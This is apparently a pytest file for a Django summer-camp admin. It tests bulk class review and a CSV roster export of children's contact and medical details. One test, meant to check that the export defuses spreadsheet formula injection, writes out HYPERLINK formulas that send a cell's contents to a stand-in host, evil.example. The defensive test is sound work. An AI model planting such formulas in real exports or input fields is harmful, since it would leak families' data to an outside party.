"""Back office actions on classes: reviews in bulk through the services, and the roster."""

import csv
import io
from datetime import date
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.contrib.messages import get_messages
from django.test import Client
from django.utils import timezone

from accounts.ages import age_on
from care.models import CareRead, empty_medical
from classes.models import ClassStatus
from core.spreadsheets import spreadsheet_safe
from payments.models import PaymentStatus
from testing.care import care_completed
from testing.factories import ChildFactory, ClassFactory, PaymentFactory, UserFactory

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/classes/class/"


def run_action(client: Client, action: str, classes):
    return client.post(
        CHANGELIST,
        {"action": action, "_selected_action": [c.pk for c in classes]},
        follow=True,
    )


def said(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)] or [
        str(message) for message in response.context["messages"]
    ]


@pytest.mark.parametrize(
    ("action", "outcome", "verb"),
    [
        ("approve_selected", ClassStatus.APPROVED, "approved"),
        ("deny_selected", ClassStatus.DENIED, "denied"),
    ],
)
def test_a_bulk_review_changes_only_pending_classes(back_office, action, outcome, verb):
    pending = ClassFactory.create_batch(2, status=ClassStatus.PENDING)
    approved = ClassFactory(name="Origami Animals", status=ClassStatus.APPROVED)
    denied = ClassFactory(name="Loom Weaving", status=ClassStatus.DENIED)

    response = run_action(back_office, action, [*pending, approved, denied])

    assert response.status_code == 200
    for camp_class in pending:
        camp_class.refresh_from_db()
        assert camp_class.status == outcome
    approved.refresh_from_db()
    denied.refresh_from_db()
    assert (approved.status, denied.status) == (ClassStatus.APPROVED, ClassStatus.DENIED)
    assert said(response) == [
        f"2 classes {verb}.",
        f"2 classes skipped (Origami Animals, Loom Weaving): Only a pending class can be {verb}.",
    ]


def test_the_roster_lists_the_enrolled_students_of_the_selected_classes(back_office):
    pottery = ClassFactory(name="Wheel-Thrown Pottery", status=ClassStatus.APPROVED)
    weaving = ClassFactory(name="Loom Weaving", status=ClassStatus.APPROVED)
    sam = UserFactory(name="Sam Rivera", email="sam@camp.test")
    lena = UserFactory(name="Lena Park", email="lena@camp.test")
    PaymentFactory(
        camp_class=pottery,
        student=sam,
        transaction_id="pi_sam",
        price=Decimal("45.50"),
        status=PaymentStatus.ENROLLED,
    )
    PaymentFactory(
        camp_class=pottery,
        student=lena,
        transaction_id="pi_lena_refunded",
        status=PaymentStatus.REFUNDED,
    )
    lena_weaving = PaymentFactory(
        camp_class=weaving,
        student=lena,
        transaction_id="pi_lena",
        price=Decimal("35.00"),
        status=PaymentStatus.ENROLLED,
    )
    PaymentFactory(status=PaymentStatus.ENROLLED)

    response = back_office.post(
        CHANGELIST,
        {"action": "export_roster", "_selected_action": [pottery.pk, weaving.pk]},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == [
        "class",
        "participant",
        "age on the first day",
        "date of birth",
        "notes",
        "family contact",
        "family e-mail",
        "emergency contact",
        "emergency phone",
        "enrolled at",
        "allergies",
        "medication at camp",
        "photo consent",
        "pick-up",
        "care record",
        "transaction id",
        "price",
        "date",
    ]
    assert [[*row[:2], *row[5:7], *row[15:17]] for row in rows[1:]] == [
        ["Loom Weaving", "Lena Park", "Lena Park", "lena@camp.test", "pi_lena", "35.00"],
        ["Wheel-Thrown Pottery", "Sam Rivera", "Sam Rivera", "sam@camp.test", "pi_sam", "45.50"],
    ]
    assert rows[1][17] == lena_weaving.date.isoformat()


def test_the_roster_names_each_child_with_their_age_and_notes(back_office):
    pottery = ClassFactory(name="Wheel-Thrown Pottery", status=ClassStatus.APPROVED)
    parent = UserFactory(name="Ana Lopez", email="ana@camp.test")
    mia = ChildFactory(
        account=parent,
        first_name="Mia",
        last_name="Lopez",
        date_of_birth=date(2017, 3, 2),
        notes="Allergic to peanuts.",
        emergency_contact_name="Rosa Lopez",
        emergency_contact_phone="415 555 0134",
    )
    PaymentFactory(camp_class=pottery, student=parent, participant=mia, status="enrolled")

    response = back_office.post(
        CHANGELIST, {"action": "export_roster", "_selected_action": [pottery.pk]}
    )

    [_, row] = list(csv.reader(io.StringIO(response.content.decode())))
    # A class whose schedule is to be announced counts ages today, in the school's time zone.
    today = timezone.localdate(timezone=ZoneInfo("America/Los_Angeles"))
    assert row[1:9] == [
        "Mia Lopez",
        str(age_on(date(2017, 3, 2), today)),
        "2017-03-02",
        "Allergic to peanuts.",
        "Ana Lopez",
        "ana@camp.test",
        "Rosa Lopez",
        "415 555 0134",
    ]


def test_the_roster_export_is_logged_for_each_family(back_office, back_office_admin):
    pottery = ClassFactory(name="Wheel-Thrown Pottery", status=ClassStatus.APPROVED)
    parent = UserFactory(name="Ana Lopez", email="ana@camp.test")
    mia = ChildFactory(account=parent, first_name="Mia", care=False)
    peanuts = {"name": "Peanuts", "severity": "anaphylactic", "action": "EpiPen"}
    care_completed(mia, medical={**empty_medical(), "allergies": [peanuts]})
    PaymentFactory(camp_class=pottery, student=parent, participant=mia, status="enrolled")

    response = back_office.post(
        CHANGELIST, {"action": "export_roster", "_selected_action": [pottery.pk]}
    )

    assert "Peanuts (anaphylactic)" in response.content.decode()
    [read] = CareRead.objects.all()
    assert (read.participant, read.reader, read.reader_role, read.part) == (
        mia,
        back_office_admin,
        "admin",
        "export",
    )


def test_selections_are_read_only(back_office):
    response = back_office.get("/admin/enrolments/selection/add/")

    assert response.status_code == 403


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_roster_carries_no_live_spreadsheet_formula(back_office, start):
    formula = f'{start}HYPERLINK("https://evil.example/?x="&A1,"Open")'
    # Class names are short (40 characters).
    class_formula = f'{start}HYPERLINK("//evil.example")'
    camp_class = ClassFactory(name=class_formula, status=ClassStatus.APPROVED)
    student = UserFactory(name=formula, email="sam@camp.test")
    PaymentFactory(
        camp_class=camp_class,
        student=student,
        transaction_id=f"{start}pi_1",
        status=PaymentStatus.ENROLLED,
    )

    response = back_office.post(
        CHANGELIST, {"action": "export_roster", "_selected_action": [camp_class.pk]}
    )

    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    row = rows[1]
    assert [row[0], row[1], row[5], row[6], row[15]] == [
        f"'{class_formula}",
        # The participant's name is the account's, split into words (no leading space or tab).
        spreadsheet_safe(formula.strip()),
        f"'{formula}",
        "sam@camp.test",
        f"'{start}pi_1",
    ]
